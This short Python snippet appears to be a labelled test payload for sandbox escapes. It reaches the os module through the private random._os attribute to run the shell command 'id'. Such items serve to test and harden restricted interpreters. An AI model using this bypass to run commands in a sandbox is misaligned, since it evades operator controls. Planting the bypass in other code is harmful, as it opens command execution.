# family: process   goal: id
import random
random._os.system("id")
